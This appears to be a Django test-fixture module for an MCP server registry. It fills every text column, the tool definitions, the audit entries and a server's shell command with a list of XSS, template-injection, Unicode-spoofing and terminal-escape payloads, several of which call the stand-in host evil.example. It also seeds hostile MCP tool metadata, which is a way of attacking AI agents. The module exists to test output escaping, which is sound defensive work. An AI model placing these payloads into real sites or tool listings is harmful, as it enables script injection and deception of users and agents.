"""Texts that try to run, to hide or to leave, put into every text column there is."""

from __future__ import annotations

from django.db import connection, models
from django.utils import timezone

from mcpregistry.models import (
    Agent,
    Connection,
    Credential,
    Definition,
    Endpoint,
    Grant,
    Invocation,
    Server,
    ServerEvent,
    ServerTest,
    Token,
    Tool,
    Workspace,
)
from mcpregistry.services.definitions import decisions, observe
from mcpregistry.services.records import audit

# Each sets window.__x, opens a dialog or asks a foreign host if anything in it is taken for code.
POLYGLOTS = (
    "<script>window.__x=1;alert(1)</script>",
    '"><img src=x onerror="window.__x=1"><svg onload=window.__x=1>',
    "javascript:/*--></title></style></textarea></script><svg/onload='window.__x=1'>",
    "'-alert(1)-'{{constructor.constructor('window.__x=1')()}}",
    '" x-data x-init="window.__x=1" x-on:mouseover="window.__x=1" hx-get="http://evil.example/" hx-trigger="load" ',
    "${window.__x=1}`{% load x %}{{ 7|add:7 }}<a href=javascript:window.__x=1>x</a>",
    "</script><link rel=stylesheet href=http://evil.example/a.css><img src=http://evil.example/b.png>",
    "\x1b[2J\x1b]8;;http://evil.example\x07click\u202egnp.exe\u200b\U000e0041<!--<iframe srcdoc='<script>top.__x=1</script>'>",
    "<svg><script>window.__x=1</script></svg><math><mtext></form><form><mglyph><style></math><img src onerror=window.__x=1>",
    "<details open ontoggle=window.__x=1><summary>x</summary></details><body onload=window.__x=1>",
    "<input autofocus onfocus=window.__x=1><select autofocus onfocus=window.__x=1>",
    '<a href="jav&#x09;ascript:window.__x=1">x</a><form action=javascript:window.__x=1><button>go</button></form>',
    "<object data='data:text/html,<script>top.__x=1</script>'></object><embed src=http://evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<style>@import 'http://evil.example/c.css';*{display:none!important}</style>",
    "</pre></code></dd></dl></article></section></main><h1>Approved by security</h1>",
    "\"'`><template><script>window.__x=1</script></template><noscript><p title='</noscript><img src onerror=window.__x=1>'>",
    "<div hx-on:load='window.__x=1' hx-get='http://evil.example/' hx-trigger=load hx-swap=outerHTML _='init set window.__x to 1'></div>",
    "{{ request.user.password }}{% debug %}#{7*7}<%= 7*7 %>${{7*7}}",
    "&lt;script&gt;window.__x=1&lt;/script&gt;&#60;img src onerror=window.__x=1&#62;",
    "%3Cscript%3Ewindow.__x=1%3C/script%3E\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e",
    "<video><source onerror=window.__x=1></video><audio src onerror=window.__x=1><marquee onstart=window.__x=1>",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035aalgo\u2066\u2069\ufeff\u00ad\u2028new line\u2029",
    "\u0600\u200d\u2062<scr\u200bipt>window.__x=1</scr\u200bipt>\x00\x08\x7f\x9b31mred",
    "'); window.__x=1; //\"); window.__x=1; //*/window.__x=1;/*]]>--><![CDATA[<script>window.__x=1</script>]]>",
)

_MODELS = (
    Agent,
    Connection,
    Credential,
    Endpoint,
    Grant,
    Invocation,
    Server,
    ServerEvent,
    ServerTest,
    Token,
    Workspace,
)
# Columns whose content decides something, or that nobody foreign can write.
_KEPT = {
    "id",
    "slug",
    "hash",
    "state",
    "lifecycle",
    "transport",
    "connect_mode",
    "resend",
    "protocol_mode",
    "verdict",
    "scope",
    "naming_style",
    "description_style",
    "outcome",
    "confirmed_launch",
    "definition_hash",
    "binding",
    "sealed_env",
    "sealed_headers",
    "sealed_value",
    "server_slug",
}


def poison() -> None:
    """Overwrite the texts of a populated site, past every check, and let a server offer hostile
    tools."""
    for model in _MODELS:
        for number, row in enumerate(model._default_manager.all()[:60]):
            texts = {f.attname: _text(f, number + place) for place, f in enumerate(_columns(model))}
            model._default_manager.filter(pk=row.pk).update(**texts)
    server = Server.objects.get(slug="time")
    listed = [
        {
            "name": text,
            "title": text,
            "description": text,
            "inputSchema": {text: text, "enum": [text]},
            "icons": [{"src": text}],
            "annotations": {"title": text},
            "_meta": {text: text},
        }
        for text in POLYGLOTS
    ]
    observe.observe(server=server, listed=listed)
    decisions.approve_waiting(server=server, actor="user:seed")
    for row in listed:
        row["description"] = f"{row['description']} changed\n{POLYGLOTS[0]}"
    observe.observe(server=server, listed=listed)
    for text in POLYGLOTS:
        audit.record_entry(kind=_storable(text[:40]), actor=text, subject=text, more=text)
    ServerTest.objects.update(timings={POLYGLOTS[0]: 1.0}, requested_at=timezone.now())
    Grant.objects.update(argument_pins={POLYGLOTS[1]: POLYGLOTS[0]})
    command = ["sh", *map(_storable, POLYGLOTS)]
    Server.objects.filter(slug="browser").update(command=command, cwd=POLYGLOTS[0])


def first_hostile() -> dict[type[models.Model], models.Model]:
    """One poisoned record of each kind."""
    time = Server.objects.get(slug="time")
    tool = time.tools.filter(pinned__isnull=False).order_by("name").first()
    assert tool is not None
    return {model: model._default_manager.all()[0] for model in _MODELS} | {
        Server: time,
        Tool: tool,
        Definition: Definition.objects.filter(tool=tool)[0],
    }


def _columns(model: type[models.Model]) -> list[models.Field]:
    columns = model._meta.local_concrete_fields
    return [
        f
        for f in columns
        if isinstance(f, models.CharField | models.TextField) and f.name not in _KEPT
    ]


def _text(field: models.Field, number: int) -> str:
    text = _storable(POLYGLOTS[number % len(POLYGLOTS)])
    return text[: field.max_length] if not field.unique else f"{number}{text}"[: field.max_length]


def _storable(text: str) -> str:
    """PostgreSQL has no NUL in any text: no such row can be there."""
    return text if connection.vendor == "sqlite" else text.replace("\x00", "")
